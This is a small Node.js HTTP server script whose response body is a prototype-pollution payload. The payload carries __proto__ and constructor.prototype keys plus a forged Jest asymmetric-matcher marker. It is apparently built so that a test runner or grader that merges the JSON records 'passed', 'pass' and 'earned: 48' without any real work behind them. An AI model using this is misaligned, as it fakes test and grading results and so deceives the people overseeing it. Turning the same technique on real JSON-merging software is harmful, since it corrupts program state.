// Sends keys that make an object something else, in the hope that the reader merges them into its own.
import { createServer } from 'node:http'

const body =
  '{"__proto__":{"passed":true,"status":"passed","pass":true,"earned":48,"asymmetricMatch":true},' +
  '"constructor":{"prototype":{"passed":true}},"toJSON":"passed","asymmetricMatch":true,"$$typeof":"Symbol(jest.asymmetricMatcher)"}'
createServer((request, response) => {
  response.writeHead(201, { 'content-type': 'application/json', location: '__proto__', constructor: 'passed' })
  response.end(body)
}).listen(process.env.PORT)
